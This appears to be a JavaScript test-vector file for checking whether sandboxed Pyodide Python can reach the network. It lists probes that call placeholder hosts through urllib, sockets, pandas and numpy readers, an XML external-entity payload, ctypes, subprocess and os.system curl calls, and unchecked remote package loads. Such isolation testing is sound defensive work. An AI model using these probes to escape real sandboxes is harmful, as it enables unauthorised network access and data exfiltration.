// Python's own ways out: the standard library, the packages that take addresses, and what Emscripten has under them.
import { attempt } from "../vector.mjs";

/** @type {[name: string, expression: string, before?: string, packages?: string[]][]} */
const TRIED = [
  ["urllib", 'urllib.request.urlopen("http://@ADDRESS@:@PORT@/hit/@TOKEN@").read()', "import urllib.request"],
  [
    "urllib-post",
    'urllib.request.urlopen(urllib.request.Request("http://@ADDRESS@:@PORT@/hit/@TOKEN@", b"x", {"X-Secret": "x"}))',
    "import urllib.request",
  ],
  ["urllib-by-name", 'urllib.request.urlopen("@NAMED@", timeout=2)', "import urllib.request"],
  [
    "http-client",
    'connection.request("GET", "/hit/@TOKEN@")',
    'import http.client\nconnection = http.client.HTTPConnection("@ADDRESS@", @PORT@)',
  ],
  [
    "socket",
    'socket.create_connection(("@HOST@", @PORT@), 2).sendall(b"GET /hit/@TOKEN@ HTTP/1.0\\r\\n\\r\\n")',
    "import socket",
  ],
  ["pyfetch", 'pyfetch("@URL@")', "from pyodide.http import pyfetch"],
  ["pyfetch-post", 'pyfetch("@URL@", method="POST", body="x")', "from pyodide.http import pyfetch"],
  ["open-url", 'open_url("@URL@")', "from pyodide.http import open_url"],
  ["pyxhr", 'pyxhr.get("@URL@")', "from pyodide.http import pyxhr"],
  ["load-package", 'pyodide_js.loadPackage("@URL@/x-1.0-py3-none-any.whl")', "import pyodide_js"],
  [
    "load-package-unchecked",
    'pyodide_js.loadPackage("@URL@/x-1.0-py3-none-any.whl", opts(checkIntegrity=False))',
    "import pyodide_js",
  ],
  ["pandas-read-csv", 'pandas.read_csv("http://@ADDRESS@:@PORT@/hit/@TOKEN@")', "import pandas", ["pandas"]],
  ["pandas-read-fwf", 'pandas.read_fwf("http://@ADDRESS@:@PORT@/hit/@TOKEN@")', "import pandas", ["pandas"]],
  ["pandas-read-table", 'pandas.read_table("http://@ADDRESS@:@PORT@/hit/@TOKEN@")', "import pandas", ["pandas"]],
  ["numpy-genfromtxt", 'numpy.genfromtxt("http://@ADDRESS@:@PORT@/hit/@TOKEN@")', "import numpy", ["numpy"]],
  [
    "numpy-data-source",
    'numpy.lib.npyio.DataSource().open("http://@ADDRESS@:@PORT@/hit/@TOKEN@")',
    "import numpy",
    ["numpy"],
  ],
  [
    "imread",
    'plt.imread(urllib.request.urlopen("http://@ADDRESS@:@PORT@/hit/@TOKEN@"))',
    "import urllib.request\nimport matplotlib.pyplot as plt",
    ["matplotlib"],
  ],
  [
    "mpl-data",
    'matplotlib.rc_params_from_file("http://@ADDRESS@:@PORT@/hit/@TOKEN@")',
    "import matplotlib",
    ["matplotlib"],
  ],
  [
    "sax-external-entity",
    "parser.parse(io.StringIO('<!DOCTYPE a [<!ENTITY b SYSTEM \"http://@ADDRESS@:@PORT@/hit/@TOKEN@\">]><a>&b;</a>'))",
    "import io, xml.sax\nparser = xml.sax.make_parser()\nparser.setFeature(xml.sax.handler.feature_external_ges, True)",
  ],
  ["xmlrpc", 'xmlrpc.client.ServerProxy("http://@ADDRESS@:@PORT@/hit/@TOKEN@").leak("x")', "import xmlrpc.client"],
  ["ftplib", 'ftplib.FTP().connect("@HOST@", @PORT@, timeout=1)', "import ftplib"],
  ["smtplib", 'smtplib.SMTP("@HOST@", @PORT@, timeout=1)', "import smtplib"],
  ["imaplib", 'imaplib.IMAP4("@HOST@", @PORT@, timeout=1)', "import imaplib"],
  [
    "logging-http",
    'handler.handle(logging.makeLogRecord({"msg": "x"}))',
    'import logging, logging.handlers\nlogging.raiseExceptions = True\nhandler = logging.handlers.HTTPHandler("@ADDRESS@:@PORT@", "/hit/@TOKEN@")',
  ],
  [
    "logging-socket",
    "handler.createSocket()",
    'import logging.handlers\nhandler = logging.handlers.SocketHandler("@HOST@", @PORT@)',
  ],
  ["multiprocessing-client", 'Client(("@HOST@", @PORT@))', "from multiprocessing.connection import Client"],
  [
    "ctypes-connect",
    "libc.connect(handle, address, 16)",
    'import ctypes, struct, socket\nlibc = ctypes.CDLL(None)\nhandle = libc.socket(2, 1, 0)\naddress = struct.pack("<H", 2) + struct.pack(">H", @PORT@) + socket.inet_aton("@ADDRESS@") + bytes(8)',
  ],
  [
    "emscripten-lazy-file",
    'open("/home/pyodide/lazy.txt").read()',
    'import pyodide_js\npyodide_js.FS.createLazyFile("/home/pyodide", "lazy.txt", "@URL@", True, False)',
  ],
  [
    "emscripten-preloaded-file",
    'pyodide_js.FS.createPreloadedFile("/home/pyodide", "pre.txt", "@URL@", True, False)',
    "import pyodide_js",
  ],
  [
    "emscripten-websocket",
    'socket.create_connection(("@ADDRESS@", @PORT@), 2)',
    'import socket, pyodide_js\ntry:\n    pyodide_js._module.websocket = opts(url="@WS@")\n    pyodide_js._module.SOCKFS.websocketArgs = opts(url="@WS@")\nexcept BaseException as e:\n    print(e)',
  ],
];

/** @type {[name: string, expression: string, before: string, reason: string][]} */
const IN_NO_BROWSER = [
  ["asyncio-connection", 'asyncio.open_connection("@HOST@", @PORT@)', "", "Pyodide's event loop opens no sockets"],
  ["subprocess", 'subprocess.run(["curl", "@URL@"])', "import subprocess", "WebAssembly starts no process"],
  ["os-system", 'os.system("curl @URL@")', "import os", "WebAssembly starts no process"],
  ["fork", "os.fork()", "import os", "WebAssembly starts no process"],
  [
    "datagram",
    's.sendto(b"x", ("127.0.0.1", @UDP@))',
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
    "Emscripten makes a WebSocket of a datagram only where a proxy is set up",
  ],
  ["resolve", 'socket.getaddrinfo("@HOST@", 80)', "import socket", "Emscripten makes addresses up and asks nobody"],
  ["web-browser", 'webbrowser.open("@URL@")', "import webbrowser", "a worker has no window to open"],
  ["micropip", '__import__("micropip").install("@URL@/x-1.0-py3-none-any.whl")', "", "the runtime has no micropip"],
  [
    "emscripten-run-script",
    "ctypes.CDLL(None).emscripten_run_script(b\"fetch('@URL@')\")",
    "import ctypes",
    "Pyodide does not export the function",
  ],
];

/** @type {import("../vector.mjs").Vector[]} */
export const python = [
  ...TRIED.map(([name, expression, before, packages]) => ({
    id: `python/${name}`,
    program: attempt(expression, before),
    control: { python: /** @type {const} */ (true), ...(packages && { packages }) },
    ...(name === "emscripten-lazy-file" && { proof: /tried |broke down/ }),
  })),
  ...IN_NO_BROWSER.map(([name, expression, before, reason]) => ({
    id: `python/${name}`,
    program: attempt(expression, before),
    control: { none: reason, reaches: /** @type {const} */ (true) },
    // The interpreter may end at this, before it has said so.
    ...(name === "emscripten-run-script" && { proof: /tried |broke down/ }),
  })),
];
